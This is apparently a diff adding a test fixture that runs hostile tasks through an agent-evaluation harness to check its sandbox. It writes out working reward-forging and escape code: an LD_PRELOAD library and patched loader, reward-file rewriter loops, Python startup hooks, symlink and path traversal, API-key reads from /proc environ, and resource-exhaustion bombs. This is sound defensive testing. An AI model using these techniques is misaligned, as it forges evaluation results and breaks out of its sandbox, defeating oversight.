@@ -1,0 +1,374 @@
+"""Hostile tasks: a malicious solve.sh (run by the oracle agent, standing in for any
+agent) or a hostile task folder, and what must hold after each runs through the
+real task door (`ParallelRunner`).
+
+Every honest test.sh here writes reward 0 (or 1 only when a limit broke), so any
+reward above 0 is forged or a broken limit.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import os
+import shutil
+import socket
+import threading
+import uuid
+from collections.abc import Callable
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+
+from helios.tasks.runner import ParallelRunner
+from helios.tasks.summary import BatchResult
+
+KEY_CANARY = "sk-helios-canary-" + uuid.uuid4().hex
+#: what the host-only reward file holds: it must never show up in result.json
+HOST_REWARD = "0.987654"
+
+EVIL_C = r"""
+#include <stdio.h>
+#include <string.h>
+#include <unistd.h>
+static int cmdline_has(const char *needle) {
+    char buf[8192]; FILE *f = fopen("/proc/self/cmdline", "r");
+    if (!f) return 0;
+    size_t n = fread(buf, 1, sizeof buf - 1, f); fclose(f);
+    for (size_t i = 0; i < n; i++) if (!buf[i]) buf[i] = ' ';
+    buf[n] = 0;
+    return strstr(buf, needle) != NULL;
+}
+/* the verifier's test.sh: forge the reward when it ends */
+__attribute__((destructor)) static void forge(void) {
+    if (cmdline_has("/tests/test.sh")) {
+        FILE *f = fopen("/logs/verifier/reward.txt", "w");
+        if (f) { fputs("1\n", f); fclose(f); }
+    }
+}
+/* the host's copy-out step: hand the host a link to one of its own files */
+__attribute__((constructor)) static void plant(void) {
+#ifdef HOST_FILE
+    if (cmdline_has("/.helios-transfer/payload") && cmdline_has("/logs/verifier")) {
+        mkdir("/.helios-transfer/payload", 0755);
+        symlink(HOST_FILE, "/.helios-transfer/payload/reward.txt");
+        _exit(0);
+    }
+#endif
+}
+"""
+
+# Repoint /lib64 at a copy of the loader that reads its preload list from /tmp.
+LDSO_SWAP = """\
+set -e
+mkdir -p /tmp/evil /tmp/evil64
+cat > /tmp/evil/evil.c <<'EOF'
+#include <sys/stat.h>
+{evil_c}
+EOF
+gcc -shared -fPIC {defines} -o /tmp/evil/evil.so /tmp/evil/evil.c
+echo /tmp/evil/evil.so > /tmp/ld.so.preload
+perl -0777 -pe 's{{/etc/ld\\.so\\.preload}}{{/tmp/ld.so.preload}}' \\
+    /usr/lib64/ld-linux-x86-64.so.2 > /tmp/evil64/ld-linux-x86-64.so.2
+chmod 755 /tmp/evil64/ld-linux-x86-64.so.2
+ln -s /tmp/evil64 /lib64.new
+mv -T /lib64.new /lib64
+"""
+
+
+PYTHON_IMAGE = (
+    "RUN apt-get update -q && DEBIAN_FRONTEND=noninteractive apt-get install -y -q "
+    "--no-install-recommends python3-minimal && rm -rf /var/lib/apt/lists/*\n"
+)
+
+
+@dataclass
+class Context:
+    """Host-side things the tasks aim at and the checks look at."""
+
+    root: Path
+    host_dir: Path
+    traversal_dir: Path
+    port: int
+    connections: list[int] = field(default_factory=list)
+
+    @property
+    def host_reward(self) -> Path:
+        return self.host_dir / "reward.txt"
+
+
+@dataclass
+class Hostile:
+    name: str
+    #: solve.sh body (after the shebang)
+    solve: str = "true\n"
+    test: str = "echo 0 > /logs/verifier/reward.txt\n"
+    toml_extra: str = ""
+    providers: tuple[str, ...] = ("local", "docker")
+    #: extra files: path relative to the task folder → text
+    files: dict[str, str] = field(default_factory=dict)
+    dockerfile_extra: str = ""
+    #: build the environment/ folder by hand (links)
+    prepare: Callable[[Path, Context], None] | None = None
+    #: the task must be refused as invalid, with this text in its one line
+    invalid: str | None = None
+    agent_timeout: float = 60
+    memory_mb: int = 256
+    needs: tuple[str, ...] = ()
+
+
+def write_task(base: Path, hostile: Hostile, ctx: Context) -> Path:
+    task = base / hostile.name
+    (task / "environment").mkdir(parents=True)
+    (task / "tests").mkdir()
+    (task / "solution").mkdir()
+    (task / "environment" / "Dockerfile").write_text(
+        f"FROM debian:bookworm-slim\nWORKDIR /app\n{hostile.dockerfile_extra}"
+    )
+    (task / "task.toml").write_text(
+        'version = "1.0"\n[verifier]\ntimeout_sec = 60\n'
+        f"[agent]\ntimeout_sec = {hostile.agent_timeout}\n"
+        f"[environment]\ncpus = 1\nmemory_mb = {hostile.memory_mb}\n{hostile.toml_extra}"
+    )
+    (task / "instruction.md").write_text("Do the thing.\n")
+    (task / "tests" / "test.sh").write_text("#!/bin/sh\n" + hostile.test)
+    (task / "solution" / "solve.sh").write_text("#!/bin/bash\n" + hostile.solve)
+    for rel, text in hostile.files.items():
+        (task / rel).parent.mkdir(parents=True, exist_ok=True)
+        (task / rel).write_text(text)
+    if hostile.prepare is not None:
+        hostile.prepare(task, ctx)
+    return task
+
+
+def _link_out(task: Path, ctx: Context) -> None:
+    (task / "environment" / "leak-dir").symlink_to(ctx.host_dir)
+
+
+def _traversal(task: Path, ctx: Context) -> None:
+    (task / "environment" / "Dockerfile").write_text(
+        f"FROM debian:bookworm-slim\nWORKDIR /../../../..{ctx.traversal_dir}\nCOPY planted.txt .\n"
+    )
+    (task / "environment" / "planted.txt").write_text("planted by a task\n")
+
+
+def catalogue(ctx: Context) -> list[Hostile]:
+    host_file = f'-DHOST_FILE=\\"{ctx.host_reward}\\"'
+    return [
+        Hostile(
+            "rewriter",
+            solve=(
+                "setsid nohup sh -c 'while :; do mkdir -p /logs/verifier; "
+                "echo 1 > /logs/verifier/reward.txt; "
+                'echo "{\\"reward\\": 1}" > /logs/verifier/reward.json; sleep 0.02; done\' '
+                ">/dev/null 2>&1 </dev/null &\n"
+                "( ( while :; do echo '{\"reward\": 1}' > /logs/verifier/reward.json 2>/dev/null;"
+                " sleep 0.02; done ) </dev/null >/dev/null 2>&1 & )\n"
+            ),
+            test="sleep 1; echo 0 > /logs/verifier/reward.txt; sleep 1\n",
+        ),
+        Hostile(
+            "ldso-swap",
+            solve=LDSO_SWAP.format(evil_c=EVIL_C, defines=""),
+            providers=("local",),
+            needs=("gcc",),
+        ),
+        Hostile(
+            "payload-symlink",
+            solve=LDSO_SWAP.format(evil_c=EVIL_C, defines=host_file),
+            test="echo 0 > /logs/verifier/reward.txt\n",
+            providers=("local",),
+            needs=("gcc",),
+        ),
+        Hostile(
+            "artifact-symlink",
+            # the tests keep the agent's output: a link in it must not reach the host
+            solve=f"mkdir -p /app/output && ln -s {ctx.host_reward} /app/output/reward.json\n",
+            test="echo 0 > /logs/verifier/reward.txt; cp -a /app/output/. /logs/verifier/\n",
+        ),
+        Hostile(
+            "usercustomize",
+            solve=(
+                "site=$(python3 -c 'import site; print(site.getusersitepackages())')\n"
+                'mkdir -p "$site"\n'
+                "printf 'import atexit\\natexit.register(lambda: open(\"/logs/verifier/"
+                "reward.txt\", \"w\").write(\"1\"))\\n' > \"$site/usercustomize.py\"\n"
+                'for d in "$HOME/.local/bin" "$HOME/bin" /app/bin; do mkdir -p "$d"; '
+                "printf '#!/bin/sh\\necho 1 > /logs/verifier/reward.txt\\n' > \"$d/python3\"; "
+                'chmod +x "$d/python3"; done\n'
+            ),
+            test="echo 0 > /logs/verifier/reward.txt; python3 -c 'print(\"checked\")'\n",
+            # docker: the image needs python (the local sandbox has the host's)
+            dockerfile_extra=PYTHON_IMAGE,
+        ),
+        Hostile(
+            "preseeded-reward",
+            solve=(
+                "mkdir -p /logs/verifier; echo 1 > /logs/verifier/reward.txt\n"
+                "echo '{\"reward\": 1}' > /logs/verifier/reward.json\n"
+            ),
+            # an honest test that writes nothing unless the task was solved
+            test="test -f /app/solved && echo 1 > /logs/verifier/reward.txt; true\n",
+        ),
+        Hostile(
+            "precreated-tests",
+            solve=(
+                "mkdir -p /tests/checks\n"
+                "echo 'echo 1 > /logs/verifier/reward.txt' > /tests/checks/zz-forged.sh\n"
+            ),
+            test='for f in /tests/checks/*.sh; do . "$f"; done\n',
+            files={"tests/checks/a-real.sh": "echo 0 > /logs/verifier/reward.txt\n"},
+        ),
+        Hostile(
+            "workdir-traversal",
+            prepare=_traversal,
+            invalid="WORKDIR",
+        ),
+        Hostile(
+            "environment-symlink",
+            prepare=_link_out,
+            invalid="symlink leaves the task folder",
+        ),
+        Hostile(
+            "key-read",
+            solve=(
+                "{ cat /proc/1/environ; env; for f in /proc/[0-9]*/environ; do cat \"$f\"; done; }"
+                " 2>/dev/null | tr '\\0' '\\n' > /app/seen\ncat /app/seen\n"
+            ),
+            test=(
+                f"if grep -q {KEY_CANARY[:20]} /app/seen; then echo 1; else echo 0; fi"
+                " > /logs/verifier/reward.txt\n"
+            ),
+        ),
+        Hostile(
+            "fork-bomb",
+            solve=(
+                "perl -e 'my $n = 0; for (1..3000) { my $p = fork(); last unless defined $p;"
+                ' if ($p == 0) { sleep 60; exit 0 } $n++ } print "$n\\n";\' > /app/forked\n'
+                "cat /app/forked\n"
+            ),
+            test=(
+                'n=$(cat /app/forked); if [ "${n:-0}" -ge 100 ]; then echo 1; else echo 0; fi'
+                " > /logs/verifier/reward.txt\n"
+            ),
+            toml_extra="pids = 100\n",
+        ),
+        Hostile(
+            "memory-hog",
+            solve=(
+                "perl -e '$x = \"x\" x (1024 * 1024 * 1024); print length($x), \"\\n\"' "
+                "> /app/allocated 2>/dev/null || rm -f /app/allocated\ntrue\n"
+            ),
+            test=(
+                "if [ -s /app/allocated ]; then echo 1; else echo 0; fi"
+                " > /logs/verifier/reward.txt\n"
+            ),
+            memory_mb=64,
+        ),
+        Hostile(
+            "disk-filler",
+            solve=(
+                "head -c 300M /dev/zero > /app/big 2>/dev/null\n"
+                "for i in $(seq 10); do head -c 20M /dev/zero > /app/f$i 2>/dev/null; done\n"
+                "u=$(du -sm /app | cut -f1); rm -f /app/big /app/f*; echo $u > /tmp/used; echo $u\n"
+            ),
+            test=(
+                'u=$(cat /tmp/used); if [ "${u:-0}" -gt 80 ]; then echo 1; else echo 0; fi'
+                " > /logs/verifier/reward.txt\n"
+            ),
+            toml_extra="storage_mb = 64\n",
+            providers=("local",),
+        ),
+        Hostile(
+            "network",
+            solve=(
+                f"timeout 5 bash -c 'echo hi > /dev/tcp/127.0.0.1/{ctx.port}' "
+                "&& echo reached > /app/net\ntrue\n"
+            ),
+            test=(
+                "if [ -e /app/net ]; then echo 1; else echo 0; fi > /logs/verifier/reward.txt\n"
+            ),
+        ),
+    ]
+
+
+def make_context(root: Path) -> Context:
+    host_dir = root / "host"
+    host_dir.mkdir(parents=True)
+    (host_dir / "secret.txt").write_text("host-only secret\n")
+    (host_dir / "reward.txt").write_text(HOST_REWARD + "\n")
+    traversal = Path("/tmp") / f"helios-traversal-{uuid.uuid4().hex}"
+    return Context(root=root, host_dir=host_dir, traversal_dir=traversal, port=0)
+
+
+class Listener:
+    """A TCP listener on 127.0.0.1 that counts who reached it."""
+
+    def __init__(self, ctx: Context) -> None:
+        self.sock = socket.socket()
+        self.sock.bind(("127.0.0.1", 0))
+        self.sock.listen()
+        self.sock.settimeout(0.2)
+        ctx.port = self.sock.getsockname()[1]
+        self.ctx = ctx
+        self.stopping = False
+        self.thread = threading.Thread(target=self._serve, daemon=True)
+        self.thread.start()
+
+    def _serve(self) -> None:
+        while not self.stopping:
+            try:
+                conn, _ = self.sock.accept()
+            except OSError:
+                continue
+            self.ctx.connections.append(1)
+            conn.close()
+
+    def close(self) -> None:
+        self.stopping = True
+        self.thread.join(timeout=5)
+        self.sock.close()
+
+
+def available(hostile: Hostile, provider: str) -> bool:
+    return provider in hostile.providers and all(shutil.which(t) for t in hostile.needs)
+
+
+@dataclass
+class BatchOutcome:
+    runner: ParallelRunner
+    batch: BatchResult
+    run_dir: Path
+    records: dict[str, dict[str, Any]]
+    ctx: Context
+    hostiles: dict[str, Hostile]
+
+
+def run_hostile_batch(root: Path, provider: str) -> BatchOutcome:
+    ctx = make_context(root)
+    listener = Listener(ctx)
+    hostiles = {h.name: h for h in catalogue(ctx) if available(h, provider)}
+    tasks = root / "tasks"
+    for hostile in hostiles.values():
+        write_task(tasks, hostile, ctx)
+    runner = ParallelRunner(
+        tasks, n_concurrent=4, agent="oracle", provider=provider, output_dir=root / "out",
+        quiet=True, show_progress=False,
+    )  # fmt: skip
+    # the key must never reach a sandbox; apt in a docker build needs the host network
+    variables = {"OPENAI_API_KEY": KEY_CANARY, "HELIOS_DOCKER_BUILD_NETWORK": "host"}
+    saved = {key: os.environ.get(key) for key in variables}
+    os.environ.update(variables)
+    try:
+        batch = asyncio.run(runner.run())
+    finally:
+        for key, value in saved.items():
+            if value is None:
+                os.environ.pop(key, None)
+            else:
+                os.environ[key] = value
+        listener.close()
+    assert runner.run_dir is not None
+    lines = (runner.run_dir / "results.jsonl").read_text().splitlines()
+    records = {r["task_name"]: r for r in map(json.loads, lines)}
+    return BatchOutcome(runner, batch, runner.run_dir, records, ctx, hostiles)
